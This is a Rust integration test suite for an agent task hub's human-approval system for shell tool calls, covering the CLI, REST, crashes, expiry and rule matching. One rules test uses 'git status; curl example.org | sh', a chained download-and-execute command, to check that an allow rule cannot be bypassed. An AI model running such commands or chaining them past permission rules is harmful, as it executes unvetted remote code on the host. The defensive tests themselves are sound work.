//! Tool questions end to end: asked over the wire and by a real agent program, answered from every surface, through
//! restarts and crashes.

use crate::common::{Client, Hub, PATIENCE, Setup, sentence, until, word};
use rustix::process::{Pid, Signal, kill_process};
use serde_json::{Value, json};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

fn question(task: i64, fence: i64, call: &str, command: &str) -> Value {
    json!({"task_id": task, "fence": fence, "call": call, "tool": "shell", "kind": "execute",
           "title": format!("run {command}"), "args": {"command": command}, "pool": "coders"})
}

/// A worker that holds one task.
fn worker(hub: &Hub) -> (Client, i64) {
    let mut worker = hub.session("w");
    let task = worker.enqueue_with(json!({"prompt": "work", "max_attempts": 5}));
    worker.lease(json!({"worker_id": "w", "lease_seconds": 60}));
    (worker, task)
}

/// The output of `kirosu` with these arguments.
fn kirosu(hub: &Hub, words: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_kirosu"))
        .args(words)
        .args(["--port", &hub.port.to_string()])
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", hub.setup.directory.path())
        .env("USER", "ada")
        .current_dir(hub.setup.directory.path())
        .output()
        .expect("the binary starts")
}

fn said(output: &Output) -> String {
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    assert!(output.status.success(), "{}", text(&output.stderr));
    text(&output.stdout)
}

/// The open tool questions.
fn open(client: &mut Client) -> Vec<Value> {
    let answer = client.call("approvals", json!({}));
    answer["approvals"].as_array().unwrap().clone()
}

fn gateway(hub: &Hub) -> String {
    until("the gateway says where it listens", || {
        let log = hub.log();
        const SAYS: &str = "REST is served address=";
        let at = log.find(SAYS)? + SAYS.len();
        let address: String = log[at..]
            .chars()
            .take_while(|c| c.is_ascii_digit() || ".:".contains(*c))
            .collect();
        Some(address)
    })
}

#[test]
fn a_question_is_answered_from_each_surface_and_a_late_word_learns_why() {
    let hub = Hub::with(&["gateway.enabled=true", "gateway.port=0"]);
    let (mut worker, task) = worker(&hub);
    let mut person = hub.client();
    person.call("watch", json!({"kinds": ["approval"]}));
    let mut ask = |call: &str, command: &str| worker.call("ask", question(task, 1, call, command));
    assert_eq!(
        ask("c1", "git push"),
        json!({"approval_id": 1, "state": "open"})
    );
    assert_eq!(ask("c2", "make")["approval_id"], 2);
    assert_eq!(ask("c3", "rm -r build")["approval_id"], 3);
    let notice = person.notice("approval");
    assert_eq!(notice["approval_id"], 1);
    assert_eq!(notice["question"], "may shell run? run git push");

    // The command line: one list, in a pipe by columns, and a word.
    let list = said(&kirosu(&hub, &["approvals"]));
    let first: Vec<&str> = list.lines().next().unwrap().split('\t').collect();
    assert_eq!(first[0], "a1");
    assert_eq!(
        &first[2..8],
        ["tool", "open", &task.to_string(), "coders", "shell", ""]
    );
    assert_eq!(first[8], r#"git push (agent: "run git push")"#);
    let screen = said(&kirosu(
        &hub,
        &["dashboard", "--plain", "--screen", "inbox"],
    ));
    assert!(
        screen.contains(r#"a3 "#) && screen.contains("rm -r build"),
        "{screen}"
    );
    assert_eq!(
        said(&kirosu(&hub, &["approve", "a1"])),
        "a1 approved: shell: git push (agent: \"run git push\")\n"
    );
    let told = worker.notice("decided");
    assert_eq!(
        told,
        json!({"task_id": task, "fence": 1, "approval_id": 1, "state": "approved"})
    );
    let answer = worker.call("ask", question(task, 1, "c1", "git push"));
    assert_eq!(
        (&answer["state"], &answer["by"]),
        (&json!("approved"), &json!("ada"))
    );

    // REST, with a reason.
    let address = gateway(&hub);
    let page = crate::common::http::with(&address, "GET", "/approvals", "", "").json();
    assert_eq!(page["approvals"][0]["approval_id"], 2);
    let body = r#"{"by":"rest","reason":"not today"}"#;
    let done = crate::common::http::with(
        &address,
        "POST",
        "/approvals/a2/reject",
        "content-type: application/json\r\n",
        body,
    );
    assert_eq!(done.status, 200, "{done:?}");
    assert_eq!(worker.notice("decided")["approval_id"], 2);
    let answer = worker.call("ask", question(task, 1, "c2", "make"));
    assert_eq!(
        (&answer["state"], &answer["reason"]),
        (&json!("rejected"), &json!("not today"))
    );
    let late = crate::common::http::with(&address, "POST", "/approvals/2/approve", "", "");
    assert_eq!(late.status, 409);
    assert_eq!(
        late.sentence(),
        "cannot approve a2: it is rejected already by rest"
    );

    // The wire; the attempt ends with a question open.
    worker.call(
        "ack",
        json!({"task_id": task, "fence": 1, "status": "done", "result": "x"}),
    );
    let error = person.refused("approve", json!({"approval_id": "a3"}));
    assert_eq!(word(&error), "stale_approval");
    assert_eq!(error["data"]["why"], "attempt_over");
    assert!(open(&mut person).is_empty());
    let decisions = person.call("get", json!({"task_id": task}))["decisions"].take();
    assert_eq!(
        decisions[0]["comment"],
        r#"a1 shell: git push (agent: "run git push")"#
    );
    assert_eq!(
        decisions[1]["comment"],
        r#"a2 shell: make (agent: "run make") (not today)"#
    );
    let failed = kirosu(&hub, &["reject", "a3", "--reason", "no"]);
    assert_eq!(failed.status.code(), Some(1));
    assert_eq!(
        sentence(&person.refused("approve", json!({"approval_id": 99}))),
        "there is no permission request a99"
    );
    assert_eq!(
        word(&person.refused("approve", json!({"approval_id": 1, "task_id": 1}))),
        "invalid_params"
    );
}

#[test]
fn who_waits_for_a_task_that_waits_for_a_person_learns_it() {
    let hub = Hub::start();
    let wait = ["enqueue", "Deploy", "--wait", "--wait-timeout", "100ms"];
    for (more, verb) in [
        (&["--requires-approval"][..], "approve"),
        (&["--type", "human"], "answer"),
    ] {
        let told = kirosu(&hub, &[&wait[..], more].concat());
        let said = String::from_utf8(told.stderr).unwrap();
        assert_eq!(told.status.code(), Some(4), "{said}");
        assert!(
            said.contains(&format!("waits for a person: kirosu {verb}")),
            "{said}"
        );
    }
    let plain = kirosu(&hub, &wait);
    assert!(!String::from_utf8(plain.stderr).unwrap().contains("person"));
    let nobody = kirosu(&hub, &["approvals", "--state", "rejected"]);
    let said = String::from_utf8(nobody.stderr).unwrap();
    assert!(said.contains("no such permission requests"), "{said}");
}

#[test]
fn a_hub_that_is_killed_forgets_no_question_and_its_worker_goes_on() {
    let hub = Setup::new().set("lease.heartbeat_grace=60s").start();
    let (mut worker, task) = worker(&hub);
    let asked = question(task, 1, "c1", "git push");
    assert_eq!(worker.call("ask", asked.clone())["state"], "open");
    let setup = Setup {
        port: hub.port,
        ..hub.kill()
    };
    let hub = setup.start();
    // Approved before the worker has found its way back.
    assert_eq!(
        said(&kirosu(&hub, &["approve", "a1", "--comment", "go"])),
        "a1 approved: shell: git push (agent: \"run git push\")\n"
    );
    let mut worker = hub.session("w");
    let answer = worker.call("ask", asked);
    assert_eq!(
        (&answer["approval_id"], &answer["state"]),
        (&json!(1), &json!("approved"))
    );
    worker.call(
        "ack",
        json!({"task_id": task, "fence": 1, "status": "done", "result": "pushed"}),
    );
}

#[test]
fn nobody_decides_in_time_and_it_is_denied() {
    let hub = Hub::start();
    let (mut worker, task) = worker(&hub);
    let mut asked = question(task, 1, "c1", "make");
    asked["wait_seconds"] = json!(0.05);
    assert_eq!(worker.call("ask", asked.clone())["state"], "open");
    let told = worker.notice("decided");
    assert_eq!(told["state"], "expired");
    let answer = worker.call("ask", asked);
    assert_eq!(
        (&answer["state"], &answer["reason"]),
        (&json!("expired"), &json!("no person decided in time"))
    );
    let mut person = hub.client();
    let error = person.refused("approve", json!({"approval_id": 1}));
    assert_eq!(
        (word(&error), &error["data"]["why"]),
        ("stale_approval", &json!("expired"))
    );
}

#[test]
fn a_thousand_questions_at_once_are_a_list_and_slow_nobody() {
    let hub = Hub::start();
    let (mut worker, task) = worker(&hub);
    let begun = Instant::now();
    let sent: Vec<u64> = (0..1000)
        .map(|n| {
            worker.send(
                "ask",
                question(task, 1, &format!("c{n}"), &format!("run {n}")),
            )
        })
        .collect();
    for id in sent {
        assert_eq!(worker.result(id)["state"], "open");
    }
    let asked = begun.elapsed();
    let refused = worker.refused("ask", question(task, 1, "one more", "x"));
    assert_eq!(word(&refused), "busy");
    let mut person = hub.client();
    let (mut cursor, mut ids) = (Value::Null, Vec::new());
    loop {
        let page = person.call("approvals", json!({"limit": 300, "cursor": cursor}));
        ids.extend(
            page["approvals"]
                .as_array()
                .unwrap()
                .iter()
                .map(|a| a["approval_id"].clone()),
        );
        cursor = page["next"].clone();
        if cursor.is_null() {
            break;
        }
    }
    assert_eq!(ids.len(), 1000);
    let words: Vec<u64> = ids
        .iter()
        .map(|id| person.send("approve", json!({"approval_id": id})))
        .collect();
    for id in words {
        assert_eq!(person.result(id)["ok"], true);
    }
    for _ in 0..1000 {
        assert_eq!(worker.notice("decided")["state"], "approved");
    }
    assert!(open(&mut person).is_empty());
    let took = begun.elapsed();
    eprintln!("1,000 questions asked in {asked:?}, listed, approved and told in {took:?}");
    assert!(took < PATIENCE);
}

/// `kirosu up` with one agent that speaks ACP and asks before it runs a tool.
fn setup_with(more: &str) -> Setup {
    let setup = Setup::new().up();
    let agent = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/actors/providers/tests/acp_agent.py"
    );
    let file = format!(
        "[providers.fake]\nkind = \"acp\"\ncommand = [\"python3\", \"{agent}\"]\nacp = {{ mode = {{ safe = \"ask\" }} }}\n\
         [[pool]]\nname = \"p\"\nprovider = \"fake\"\nsize = 1\nsilence_timeout = \"3s\"\n{more}"
    );
    let path = setup.directory.path().join("kirosu.toml");
    std::fs::write(&path, file).unwrap();
    setup.argument("--config").argument(path.to_str().unwrap())
}

/// The lines that the agent wrote as it ran tools.
fn ran(setup: &Setup) -> usize {
    let path = setup.directory.path().join("ran.txt");
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .count()
}

fn ended(client: &mut Client, task: i64) -> Value {
    let answer = client.call("wait", json!({"task_ids": [task], "timeout_seconds": 25}));
    assert_eq!(answer["finished"], true, "{answer}");
    answer["tasks"][0].clone()
}

/// The first open question, once there is one.
fn asked(client: &mut Client) -> Value {
    until("an agent asks", || open(client).into_iter().next())
}

#[test]
fn an_agent_waits_for_a_person_longer_than_silence_may_last_and_hears_the_word() {
    let hub = setup_with("").start();
    let mut person = hub.client();
    let task = person.enqueue("ask git push");
    let entry = asked(&mut person);
    assert_eq!(
        (&entry["tool"], &entry["pool"]),
        (&json!("shell"), &json!("p"))
    );
    assert_eq!(entry["args"], r#"{"command":"git push"}"#);
    // Twice the time of silence that the pool allows; the lease is kept meanwhile.
    let silence = Instant::now();
    until("silence has lasted", || {
        (silence.elapsed() > Duration::from_secs(6)).then_some(())
    });
    assert_eq!(person.status(task), "leased");
    assert_eq!(ran(&hub.setup), 0);
    said(&kirosu(
        &hub,
        &["approve", &format!("a{}", entry["approval_id"])],
    ));
    let done = ended(&mut person, task);
    assert_eq!(done["status"], "done", "{done}");
    assert_eq!(ran(&hub.setup), 1);

    let task = person.enqueue_with(json!({"prompt": "ask git push --force", "max_attempts": 1}));
    let id = asked(&mut person)["approval_id"].clone();
    said(&kirosu(
        &hub,
        &["reject", &format!("a{id}"), "--reason", "not with force"],
    ));
    let denied = ended(&mut person, task);
    assert_eq!(denied["status"], "failed", "{denied}");
    assert!(
        denied["error"].as_str().unwrap().contains("not with force"),
        "{denied}"
    );
    assert_eq!(ran(&hub.setup), 1);
}

#[test]
fn a_house_that_is_killed_while_an_agent_asks_runs_the_tool_once() {
    let setup = setup_with("lease = \"5s\"\n").set("lease.session_grace=100ms");
    let hub = setup.start();
    let mut person = hub.client();
    let task = person.enqueue_with(json!({"prompt": "ask make install", "max_attempts": 3}));
    let id = asked(&mut person)["approval_id"].clone();
    let hub = hub.kill().start();
    // The request is unchanged although its agent is dead.
    said(&kirosu(&hub, &["approve", &format!("a{id}")]));
    let mut person = hub.client();
    let done = ended(&mut person, task);
    assert_eq!(done["status"], "done", "{done}");
    assert_eq!(ran(&setup), 1);
    let all = person.call("approvals", json!({"state": "any", "task_id": task}));
    assert_eq!(all["approvals"].as_array().unwrap().len(), 1, "{all}");
}

/// The agent's process, found by its folder.
fn agent_of(setup: &Setup) -> Pid {
    until("the agent runs", || {
        let here = setup.directory.path().canonicalize().unwrap();
        std::fs::read_dir("/proc")
            .unwrap()
            .flatten()
            .find_map(|entry| {
                let said = std::fs::read_to_string(entry.path().join("cmdline")).ok()?;
                let is_agent =
                    said.split('\0').next()?.ends_with("python3") && said.contains("acp_agent.py");
                let is_ours = std::fs::read_link(entry.path().join("cwd")).ok()? == here;
                let number = entry.file_name().to_str()?.parse().ok()?;
                Pid::from_raw(number).filter(|_| is_agent && is_ours)
            })
    })
}

#[test]
fn an_agent_program_that_is_killed_while_it_asks_gets_the_answer_in_its_next_life() {
    let hub = setup_with("").set("retry.initial=50ms").start();
    let mut person = hub.client();
    let task = person.enqueue_with(json!({"prompt": "ask make", "max_attempts": 3}));
    let id = asked(&mut person)["approval_id"].clone();
    kill_process(agent_of(&hub.setup), Signal::KILL).unwrap();
    // An earlier answer would go to the dead agent, which cannot be distinguished from one that ran the tool and then died.
    until("the hub knows of the crash", || {
        let got = person.call("get", json!({"task_id": task}));
        (got["attempts"][0]["outcome"] == "crashed").then_some(())
    });
    person.call("approve", json!({"approval_id": id}));
    let done = ended(&mut person, task);
    assert_eq!(done["status"], "done", "{done}");
    assert_eq!(ran(&hub.setup), 1);
    let all = person.call("approvals", json!({"state": "any", "task_id": task}));
    assert_eq!(all["approvals"].as_array().unwrap().len(), 1, "{all}");
}

#[test]
fn an_agent_elsewhere_lives_on_while_its_hub_is_killed() {
    let hub = Setup::new().set("lease.heartbeat_grace=60s").start();
    let agents = setup_with("");
    let mut command = Command::new(env!("CARGO_BIN_EXE_kirosu"));
    command
        .args(["agent", "--pool", "p", "--port", &hub.port.to_string()])
        .args(&agents.arguments[2..])
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", agents.directory.path())
        .current_dir(agents.directory.path());
    let log = std::fs::File::create(agents.directory.path().join("agent.log")).unwrap();
    command
        .stdin(std::process::Stdio::null())
        .stdout(log.try_clone().unwrap())
        .stderr(log);
    let mut agent = Gone(command.spawn().expect("the binary starts"));
    let mut person = hub.client();
    let task = person.enqueue("ask make");
    let id = asked(&mut person)["approval_id"].clone();
    let setup = Setup {
        port: hub.port,
        ..hub.kill()
    };
    let hub = setup.start();
    let mut person = hub.client();
    person.call("approve", json!({"approval_id": id}));
    let done = ended(&mut person, task);
    assert_eq!(
        (&done["status"], &done["fence"]),
        (&json!("done"), &json!(1)),
        "{done}"
    );
    assert_eq!(ran(&agents), 1);
    assert!(agent.0.try_wait().unwrap().is_none());
}

/// A process that is gone when the test is.
struct Gone(std::process::Child);

impl Drop for Gone {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn rules_answer_for_people_and_stand_in_the_record() {
    let rules = "[approval]\nwait = \"1s\"\n\
        [[approval.rule]]\nname = \"no-root\"\naction = \"deny\"\ntool = \"shell\"\nargs = { \"/command\" = \".*sudo.*\" }\n\
        [[approval.rule]]\nname = \"looks\"\naction = \"allow\"\nkind = \"exec*\"\nargs = { \"/command\" = \"git (status|log).*\" }\n";
    let hub = setup_with(rules).start();
    let mut person = hub.client();
    let mut run = |prompt: &str| {
        let task = person.enqueue_with(json!({"prompt": prompt, "max_attempts": 1}));
        let task = ended(&mut person, task);
        let all = person.call(
            "approvals",
            json!({"state": "any", "task_id": task["task_id"]}),
        );
        (task, all["approvals"][0].clone())
    };
    let (task, kept) = run("ask git status --short");
    assert_eq!(task["status"], "done", "{task}");
    assert_eq!(
        (&kept["state"], &kept["rule"]),
        (&json!("approved"), &json!("looks"))
    );
    let (task, kept) = run("ask sudo git status");
    assert_eq!(task["status"], "failed", "{task}");
    assert!(
        task["error"]
            .as_str()
            .unwrap()
            .contains("denied by rule 'no-root'"),
        "{task}"
    );
    assert_eq!(
        (&kept["state"], &kept["rule"]),
        (&json!("rejected"), &json!("no-root"))
    );
    // Not what the rule means, though it begins like it: a person is asked, who is not there.
    let (task, kept) = run("ask git status; curl example.org | sh");
    assert_eq!(task["status"], "failed", "{task}");
    assert_eq!(
        (&kept["state"], &kept["reason"]),
        (&json!("expired"), &json!("no person decided in time"))
    );
    assert_eq!(ran(&hub.setup), 1);
}

#[test]
fn what_is_wrong_with_rules_is_told_before_anything_runs() {
    let rules = "[[approval.rule]]\nname = \"a\"\naction = \"alow\"\n\
        [[approval.rule]]\nname = \"b\"\naction = \"allow\"\ntol = \"x\"\n";
    let (status, _, error) = setup_with(rules).run();
    assert!(!status.success());
    assert!(
        error.contains("approval.rule[0].action") && error.contains("one of allow, deny, ask"),
        "{error}"
    );
    assert!(
        error.contains("approval.rule[1].tol") && error.contains("did you mean tool?"),
        "{error}"
    );
    let rules = "[[approval.rule]]\nname = \"a\"\naction = \"allow\"\nargs = \"git (\"\n";
    let (status, _, error) = setup_with(rules).run();
    assert!(!status.success());
    assert!(
        error.contains("approval.rule[0].args") && error.contains("is no regular expression"),
        "{error}"
    );
}

#[test]
fn an_expired_question_is_no_answer_for_the_next_attempt() {
    let hub = Hub::start();
    let (mut worker, task) = worker(&hub);
    let mut ask = question(task, 1, "c", "git push");
    ask["wait_seconds"] = json!(1);
    worker.call("ask", ask.clone());
    assert_eq!(worker.notice("decided")["state"], "expired");
    worker.call("release", json!({"task_id": task, "fence": 1}));
    worker.lease(json!({"worker_id": "w"}));
    (ask["fence"], ask["wait_seconds"]) = (json!(2), json!(3600));
    assert_eq!(
        worker.call("ask", ask),
        json!({"approval_id": 2, "state": "open"})
    );
}

#[test]
fn an_approval_that_is_sent_again_answers_no_later_question() {
    let hub = Hub::start();
    let mut client = hub.client();
    client.call("watch", json!({"kinds": ["task"]}));
    let task = json!({"prompt": "drop it", "requires_approval": true, "on_lost": "ask"});
    let task = client.enqueue_with(task);
    assert_eq!(client.notice("approval")["fence"], 0);
    let approve = |more: Value| {
        let mut params = json!({"task_id": task, "by": "ada"});
        let more = more.as_object().unwrap().clone();
        params.as_object_mut().unwrap().extend(more);
        params
    };
    let lose = |client: &mut Client| {
        client.lease(json!({"lease_seconds": 1}));
        until("the task waits for a person", || {
            (client.status(task) == "awaiting_approval").then_some(())
        });
    };
    assert_eq!(
        client.call("approve", approve(json!({}))),
        json!({"ok": true})
    );
    lose(&mut client);
    let notice = client.notice("approval");
    assert_eq!(notice["fence"], 1, "{notice}");
    let repeated = json!({"ok": true, "repeated": true});
    assert_eq!(
        client.call("approve", approve(json!({"fence": 0}))),
        repeated
    );
    // Without the fence the call may repeat the first approval or answer the present request: nothing is decided, and no
    // decision is reported.
    let unclear = client.refused("approve", approve(json!({})));
    assert_eq!(word(&unclear), "stale_approval");
    assert_eq!(unclear["data"]["why"], "unclear");
    assert_eq!(unclear["data"]["fence"], 1);
    let message = sentence(&unclear);
    assert!(
        message.contains("approved by ada") && message.contains("`fence` 1"),
        "{message}"
    );
    let never = client.refused("approve", approve(json!({"fence": 7})));
    assert_eq!(word(&never), "stale_approval");
    assert_eq!(never["data"]["fence"], 1);
    let over = client.refused("reject", approve(json!({"fence": 0})));
    assert_eq!(word(&over), "stale_approval");
    assert_eq!(client.status(task), "awaiting_approval");
    // A call that names the permission request decides it, and may be repeated.
    for _ in 0..2 {
        assert_eq!(
            client.call("approve", approve(json!({"fence": 1}))),
            json!({"ok": true})
        );
    }
    lose(&mut client);
    // Another person's word, or other words of the same one, can only mean what is asked now.
    let other = approve(json!({"comment": "once more"}));
    assert_eq!(client.call("approve", other), json!({"ok": true}));
    lose(&mut client);
    // The command line looks what is asked, and names it.
    said(&kirosu(&hub, &["approve", &task.to_string()]));
    assert_eq!(client.status(task), "queued");
}

#[test]
fn a_question_that_is_asked_again_after_retry_is_another_question() {
    let hub = Hub::start();
    let mut client = hub.client();
    for params in [
        json!({"prompt": "drop it", "requires_approval": true}),
        json!({"prompt": "which one?", "type": "human"}),
    ] {
        let task = client.enqueue_with(params);
        let first = client.task(task)["fence"].clone();
        client.call("reject", json!({"task_id": task, "fence": first}));
        client.call("retry", json!({"task_id": task}));
        let second = client.task(task)["fence"].clone();
        assert_ne!(first, second);
        // Sent for the first question, and late.
        let late = client.refused("approve", json!({"task_id": task, "fence": first}));
        assert_eq!(word(&late), "stale_approval", "{late}");
        let again = client.call("reject", json!({"task_id": task, "fence": first}));
        assert_eq!(again, json!({"ok": true, "repeated": true}));
        let asks = ["awaiting_approval", "queued"];
        assert!(asks.contains(&&*client.status(task)));
        client.call("approve", json!({"task_id": task, "fence": second}));
        assert!(["queued", "done"].contains(&&*client.status(task)));
    }
}
